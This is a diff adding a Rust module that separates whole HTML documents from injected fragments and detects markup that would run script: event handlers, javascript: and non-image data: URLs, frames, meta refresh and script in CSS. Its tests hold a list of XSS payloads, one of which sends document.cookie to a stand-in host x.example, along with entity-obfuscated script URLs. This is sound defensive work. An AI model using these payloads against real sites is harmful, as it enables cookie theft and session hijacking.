@@ -1,0 +1,517 @@
+//! Whole HTML documents sent as a value: rich text from an editor (TinyMCE, CKEditor,
+//! Gutenberg), an HTML e-mail posted by an inbound-mail webhook, a CMS page.
+//!
+//! libinjection judges a value as if it were injected into a page, so it flags what every such
+//! document holds: a `<!DOCTYPE>`, a `style` attribute, a `<style>` or `<meta>` element in an
+//! e-mail's head, an `xmlns` on `<html>`, Outlook's `<!--[if mso]>` comments, a video embed's
+//! `<iframe>`, an inline `data:image/png` picture. A document is judged instead by what runs
+//! script or takes the page over when it is rendered: script elements, plugin and frame
+//! elements other than a plain `<iframe>`, `<base>`, event handlers, `srcdoc`, script and
+//! non-image `data:` URLs, `http-equiv` refresh and cookies, and script in CSS. What a
+//! document cannot smuggle past this is what libinjection would also have missed; what it
+//! lets through is HTML injection that runs nothing (an `<iframe>` of an `https:` page).
+
+use libinjectionrs::xss::{Html5Flags, Html5State, TokenType};
+
+/// Opening tags of ordinary content elements a value must hold at least this many of to be
+/// judged as a document.
+const DOCUMENT_TAGS: usize = 3;
+
+/// Whether `value` is an HTML document rather than a fragment injected into one: it holds
+/// at least [`DOCUMENT_TAGS`] opening tags of ordinary content elements (`<p>`, `<div>`,
+/// `<td>`, `<h2>`, …). Padding an attack with such tags gains nothing:
+/// [`document_runs_script`] still finds what runs.
+pub fn is_document(value: &[u8]) -> bool {
+    let mut found = 0;
+    let mut rest = value;
+    while let Some(at) = memchr::memchr(b'<', rest) {
+        let Some(after) = rest.get(at + 1..) else {
+            break;
+        };
+        if content_tag(after) {
+            found += 1;
+            if found >= DOCUMENT_TAGS {
+                return true;
+            }
+        }
+        rest = after;
+    }
+    false
+}
+
+/// Whether `after` (the bytes after a `<`) begins with the name of an ordinary content element
+/// followed by the end of the name.
+fn content_tag(after: &[u8]) -> bool {
+    const NAMES: &[&[u8]] = &[
+        b"p",
+        b"div",
+        b"span",
+        b"br",
+        b"h1",
+        b"h2",
+        b"h3",
+        b"h4",
+        b"h5",
+        b"h6",
+        b"ul",
+        b"ol",
+        b"li",
+        b"table",
+        b"tbody",
+        b"thead",
+        b"tr",
+        b"td",
+        b"th",
+        b"a",
+        b"img",
+        b"strong",
+        b"em",
+        b"b",
+        b"i",
+        b"u",
+        b"s",
+        b"blockquote",
+        b"pre",
+        b"code",
+        b"figure",
+        b"figcaption",
+        b"hr",
+        b"html",
+        b"head",
+        b"body",
+        b"title",
+        b"section",
+        b"article",
+        b"header",
+        b"footer",
+        b"center",
+        b"font",
+        b"small",
+        b"sup",
+        b"sub",
+        b"dl",
+        b"dt",
+        b"dd",
+        b"caption",
+    ];
+    let end = after
+        .iter()
+        .position(|b| !b.is_ascii_alphanumeric())
+        .unwrap_or(after.len());
+    let (name, next) = after.split_at(end);
+    let ends = matches!(
+        next.first(),
+        None | Some(b' ' | b'>' | b'/' | b'\t' | b'\r' | b'\n')
+    );
+    ends && NAMES.iter().any(|n| n.eq_ignore_ascii_case(name))
+}
+
+/// What an attribute's value is checked for.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Attr {
+    Other,
+    /// A URL the browser loads or follows (`href`, `src`, `action`, …).
+    Url,
+    /// A list of values an SVG animation sets (`values`, `to`, `from`): any may be a URL.
+    UrlList,
+    /// CSS (`style`).
+    Style,
+    /// The name of another attribute (SVG `attributeName`).
+    Indirect,
+    /// `<meta http-equiv>`.
+    HttpEquiv,
+    /// `<link rel>`.
+    LinkRel,
+}
+
+/// Why `doc`, rendered, would run script or take the page over; `None` if it would not. Read
+/// with libinjection's HTML5 tokenizer, in the data state (a document is not inside a tag).
+pub fn document_runs_script(doc: &[u8]) -> Option<&'static str> {
+    let mut html = Html5State::new(doc, Html5Flags::DataState);
+    let mut attr = Attr::Other;
+    let mut tag = Tag::Other;
+    let mut in_style = false;
+    while html.next() {
+        let token = html.token_start.get(..html.token_len).unwrap_or_default();
+        if html.token_type != TokenType::AttrValue {
+            attr = Attr::Other;
+        }
+        match html.token_type {
+            TokenType::TagNameOpen => {
+                tag = Tag::of(token);
+                if tag == Tag::Black {
+                    return Some("element that runs script or loads a plugin");
+                }
+                in_style = tag == Tag::Style;
+            }
+            TokenType::TagClose if token.eq_ignore_ascii_case(b"style") => in_style = false,
+            TokenType::DataText if in_style && css_runs_script(token) => {
+                return Some("script in a style element");
+            }
+            TokenType::AttrName => {
+                attr = match attribute(token, tag) {
+                    Ok(a) => a,
+                    Err(why) => return Some(why),
+                };
+            }
+            TokenType::AttrValue => {
+                let bad = match attr {
+                    Attr::Other => None,
+                    Attr::Url => black_url(token).then_some("script or document URL"),
+                    Attr::UrlList => token
+                        .split(|&b| b == b';')
+                        .any(black_url)
+                        .then_some("animation to a script URL"),
+                    Attr::Style => css_runs_script(token).then_some("script in a style attribute"),
+                    Attr::Indirect => {
+                        let t = trimmed_lower(token, 8);
+                        t.starts_with(b"on")
+                            .then_some("animation of an event handler")
+                    }
+                    Attr::HttpEquiv => {
+                        let t = trimmed_lower(token, 16);
+                        (t.starts_with(b"refresh") || t.starts_with(b"set-cookie"))
+                            .then_some("meta refresh or cookie")
+                    }
+                    Attr::LinkRel => {
+                        let t = trimmed_lower(token, 16);
+                        (t.starts_with(b"import") || t.starts_with(b"prerender"))
+                            .then_some("linked document")
+                    }
+                };
+                if bad.is_some() {
+                    return bad;
+                }
+                attr = Attr::Other;
+            }
+            TokenType::TagComment => {
+                let t = trimmed_lower(token, 8);
+                if token.contains(&b'`')
+                    || t.starts_with(b"import")
+                    || t.starts_with(b"entity")
+                    || t.starts_with(b"xml")
+                {
+                    return Some("comment the old IE parser runs");
+                }
+            }
+            _ => {}
+        }
+    }
+    None
+}
+
+/// The elements [`document_runs_script`] tells apart.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Tag {
+    Other,
+    /// Runs script or a plugin, or takes the page over, whatever its attributes.
+    Black,
+    Meta,
+    Link,
+    Style,
+}
+
+impl Tag {
+    fn of(name: &[u8]) -> Tag {
+        const BLACK: &[&[u8]] = &[
+            b"script",
+            b"object",
+            b"embed",
+            b"applet",
+            b"base",
+            b"frame",
+            b"frameset",
+            b"isindex",
+            b"noscript",
+            b"vmlframe",
+            b"import",
+            b"handler",
+            b"listener",
+            b"xml",
+            b"xss",
+            b"comment",
+            b"portal",
+            b"fencedframe",
+        ];
+        let lower = name.to_ascii_lowercase();
+        // Namespaced names (`v:vmlframe`) by their local part.
+        let local = lower
+            .rsplit(|&b| b == b':')
+            .next()
+            .unwrap_or(lower.as_slice());
+        if BLACK.contains(&local) || local.starts_with(b"svg") || local.starts_with(b"xsl") {
+            Tag::Black
+        } else if local == b"meta" {
+            Tag::Meta
+        } else if local == b"link" {
+            Tag::Link
+        } else if local == b"style" {
+            Tag::Style
+        } else {
+            Tag::Other
+        }
+    }
+}
+
+/// What an attribute of `tag` named `name` is checked for, or why its name alone is enough.
+fn attribute(name: &[u8], tag: Tag) -> Result<Attr, &'static str> {
+    let lower = name.to_ascii_lowercase();
+    let n = lower.as_slice();
+    if n.len() > 2 && n.starts_with(b"on") {
+        return Err("event handler");
+    }
+    Ok(match n {
+        b"srcdoc" => return Err("frame with inline document"),
+        b"rel" if tag == Tag::Link => Attr::LinkRel,
+        b"http-equiv" if tag == Tag::Meta => Attr::HttpEquiv,
+        b"style" => Attr::Style,
+        b"attributename" => Attr::Indirect,
+        b"values" | b"to" | b"from" | b"by" => Attr::UrlList,
+        b"href" | b"src" | b"action" | b"formaction" | b"background" | b"dynsrc" | b"lowsrc"
+        | b"data" | b"poster" | b"codebase" | b"xlink:href" | b"datasrc" | b"folder" => Attr::Url,
+        _ => Attr::Other,
+    })
+}
+
+/// The first `max` bytes of `v` that a browser reads, lowercased: leading whitespace and
+/// control bytes, and tabs and line breaks anywhere (`java&Tab;script:`), dropped; numeric
+/// character references (`&#x6A;`, `&#106`) and `&Tab;`, `&NewLine;`, `&colon;` decoded.
+fn trimmed_lower(v: &[u8], max: usize) -> Vec<u8> {
+    let mut out = Vec::with_capacity(max);
+    let mut i = 0;
+    while out.len() < max {
+        let Some(&b) = v.get(i) else { break };
+        let (c, used) = if b == b'&' {
+            entity(v.get(i..).unwrap_or_default())
+        } else {
+            (Some(b), 1)
+        };
+        i += used.max(1);
+        if let Some(c) = c {
+            if c > b' ' && c != 0x7f {
+                out.push(c.to_ascii_lowercase());
+            }
+        }
+    }
+    out
+}
+
+/// The byte a character reference at the start of `s` stands for (`None`: a character
+/// outside ASCII, or one a browser drops) and the bytes it takes; a lone `&` is itself.
+fn entity(s: &[u8]) -> (Option<u8>, usize) {
+    const NAMED: &[(&[u8], u8)] = &[
+        (b"&tab;", b'\t'),
+        (b"&newline;", b'\n'),
+        (b"&colon;", b':'),
+        (b"&lpar;", b'('),
+        (b"&rpar;", b')'),
+    ];
+    for (name, c) in NAMED {
+        if s.len() >= name.len()
+            && s.get(..name.len())
+                .is_some_and(|h| h.eq_ignore_ascii_case(name))
+        {
+            return (Some(*c), name.len());
+        }
+    }
+    if s.get(1) != Some(&b'#') {
+        return (Some(b'&'), 1);
+    }
+    let hex = matches!(s.get(2), Some(b'x' | b'X'));
+    let start = if hex { 3 } else { 2 };
+    let mut n: u32 = 0;
+    let mut i = start;
+    while let Some(&d) = s.get(i) {
+        let v = match (hex, d) {
+            (_, b'0'..=b'9') => u32::from(d - b'0'),
+            (true, b'a'..=b'f') => u32::from(d - b'a' + 10),
+            (true, b'A'..=b'F') => u32::from(d - b'A' + 10),
+            _ => break,
+        };
+        n = n
+            .saturating_mul(if hex { 16 } else { 10 })
+            .saturating_add(v);
+        i += 1;
+    }
+    if i == start {
+        return (Some(b'&'), 1);
+    }
+    if s.get(i) == Some(&b';') {
+        i += 1;
+    }
+    (u8::try_from(n).ok().filter(u8::is_ascii), i)
+}
+
+/// A URL that runs script or renders a document of its own when followed or loaded: a
+/// `javascript:`, `vbscript:` or `view-source:` one, or a `data:` URL that is not a plain
+/// raster image (`data:text/html`, `data:image/svg+xml`).
+fn black_url(v: &[u8]) -> bool {
+    let t = trimmed_lower(v, 24);
+    if t.starts_with(b"javascript:")
+        || t.starts_with(b"vbscript:")
+        || t.starts_with(b"view-source:")
+    {
+        return true;
+    }
+    if let Some(media) = t.strip_prefix(b"data:") {
+        const IMAGES: &[&[u8]] = &[
+            b"image/png",
+            b"image/jpeg",
+            b"image/jpg",
+            b"image/gif",
+            b"image/webp",
+            b"image/bmp",
+            b"image/avif",
+            b"image/x-icon",
+        ];
+        return !IMAGES.iter().any(|i| media.starts_with(i));
+    }
+    false
+}
+
+/// CSS that runs script: `expression(`, `behavior:`, `-moz-binding`, a `javascript:` or
+/// `vbscript:` URL; read with comments and backslash escapes dropped (`exp/**/ression(`,
+/// `\65 xpression(`).
+fn css_runs_script(css: &[u8]) -> bool {
+    let mut plain = Vec::with_capacity(css.len());
+    let mut i = 0;
+    while let Some(&b) = css.get(i) {
+        if b == b'/' && css.get(i + 1) == Some(&b'*') {
+            let end = memchr::memmem::find(css.get(i + 2..).unwrap_or_default(), b"*/")
+                .map_or(css.len(), |e| i + 2 + e + 2);
+            i = end;
+            continue;
+        }
+        if b == b'\\' {
+            // A hex escape (`\65 `) stands for its character; any other escaped byte for itself.
+            let digits = css
+                .get(i + 1..)
+                .unwrap_or_default()
+                .iter()
+                .take(6)
+                .take_while(|d| d.is_ascii_hexdigit())
+                .count();
+            if digits > 0 {
+                let hex = css.get(i + 1..i + 1 + digits).unwrap_or_default();
+                let code = std::str::from_utf8(hex)
+                    .ok()
+                    .and_then(|h| u32::from_str_radix(h, 16).ok())
+                    .and_then(|c| u8::try_from(c).ok());
+                if let Some(c) = code {
+                    plain.push(c.to_ascii_lowercase());
+                }
+                i += 1 + digits;
+                if css.get(i) == Some(&b' ') {
+                    i += 1;
+                }
+            } else {
+                i += 1;
+            }
+            continue;
+        }
+        if !b.is_ascii_whitespace() && b != 0 {
+            plain.push(b.to_ascii_lowercase());
+        }
+        i += 1;
+    }
+    const SCRIPT: &[&[u8]] = &[
+        b"expression(",
+        b"behavior:",
+        b"behaviour:",
+        b"-moz-binding",
+        b"javascript:",
+        b"vbscript:",
+    ];
+    SCRIPT
+        .iter()
+        .any(|s| memchr::memmem::find(&plain, s).is_some())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const EMAIL: &str = r#"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
+<html xmlns="http://www.w3.org/1999/xhtml"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8">
+<meta name="viewport" content="width=device-width"><link href="https://fonts.example.com/css?family=Inter" rel="stylesheet">
+<style type="text/css">body{margin:0} .btn{background:#0a6;color:#fff} @media (max-width:600px){.col{width:100%!important}}</style>
+<!--[if mso]><style>table{border-collapse:collapse}</style><![endif]--></head>
+<body><table role="presentation" width="100%"><tr><td style="padding: 24px; font-family: Inter, Arial, sans-serif;">
+<h1 style="color: rgb(224, 62, 45);">Your receipt</h1><p>Thanks for your order!</p>
+<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo" width="120">
+<p><a href="https://shop.example/orders/123" class="btn">View order</a></p></td></tr></table></body></html>"#;
+
+    const ARTICLE: &str = r#"<h2>Can't log in after a reset</h2><p>Try <em>clearing cookies</em> first, then:</p>
+<ul><li>open <a href="https://help.example/reset" target="_blank" rel="noopener">the reset page</a></li><li>request a new link</li></ul>
+<p><iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" width="560" height="315" frameborder="0" allowfullscreen="allowfullscreen"></iframe></p>
+<p><span style="color: #e03e2d;">Note:</span> links expire after 24 hours.</p>"#;
+
+    #[test]
+    fn documents_are_told_from_fragments() {
+        assert!(is_document(EMAIL.as_bytes()));
+        assert!(is_document(ARTICLE.as_bytes()));
+        assert!(!is_document(b"<img src=x onerror=alert(1)>"));
+        assert!(!is_document(b"<b>bold</b> and <i>it</i>"));
+        assert!(!is_document(b"a <pre-tag> <paragraph> <table-of-contents>"));
+    }
+
+    #[test]
+    fn ordinary_documents_run_nothing() {
+        assert_eq!(document_runs_script(EMAIL.as_bytes()), None);
+        assert_eq!(document_runs_script(ARTICLE.as_bytes()), None);
+        // libinjection flags both (doctype, style attribute, meta, iframe, data: image).
+        assert!(libinjectionrs::detect_xss(EMAIL.as_bytes()).is_injection());
+        assert!(libinjectionrs::detect_xss(ARTICLE.as_bytes()).is_injection());
+    }
+
+    #[test]
+    fn what_runs_is_found_inside_documents() {
+        for attack in [
+            "<script>fetch('//x.example/?c='+document.cookie)</script>",
+            "<img src=x onerror=alert(1)>",
+            "<details open ontoggle=alert(1)>",
+            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
+            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
+            "<a href=\" JaVaScRiPt:alert(1)\">x</a>",
+            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
+            "<iframe src=\"javascript:alert(1)\"></iframe>",
+            "<object data=\"//x.example/a.swf\"></object>",
+            "<embed src=\"//x.example/a.swf\">",
+            "<base href=\"//x.example/\">",
+            "<meta http-equiv=\"refresh\" content=\"0;url=https://x.example/\">",
+            "<svg onload=alert(1)>",
+            "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
+            "<form action=\"javascript:alert(1)\"><button>go</button></form>",
+            "<button formaction=\"javascript:alert(1)\">x</button>",
+            "<div style=\"width: expression(alert(1))\">x</div>",
+            "<div style=\"background:url(javascript:alert(1))\">x</div>",
+            "<div style=\"x:\\65 xpression(alert(1))\">x</div>",
+            "<style>*{-moz-binding:url(//x.example/a.xml#x)}</style>",
+            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
+            "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
+            "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
+            "<a><animate attributeName=\"onclick\" to=\"alert(1)\"/>x</a>",
+            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+            "<link rel=\"import\" href=\"//x.example/a.html\">",
+        ] {
+            let doc = format!("<h2>Notes</h2><p>See below.</p><div>{attack}</div><p>Thanks</p>");
+            assert!(is_document(doc.as_bytes()), "{doc}");
+            assert!(document_runs_script(doc.as_bytes()).is_some(), "{attack}");
+        }
+    }
+
+    #[test]
+    fn character_references_and_css_escapes_are_read() {
+        assert_eq!(
+            trimmed_lower(b" \tJa&#x76;a&Tab;script&colon;", 16),
+            b"javascript:"
+        );
+        assert!(black_url(b"&#0000106avascript:alert(1)"));
+        assert!(!black_url(b"https://example.com/?a=javascript:"));
+        assert!(!black_url(b"data:image/png;base64,iVBO"));
+        assert!(css_runs_script(b"x:exp/**/ression(alert(1))"));
+        assert!(!css_runs_script(
+            b"color: rgb(224, 62, 45); font-family: 'Segoe UI'"
+        ));
+    }
+}
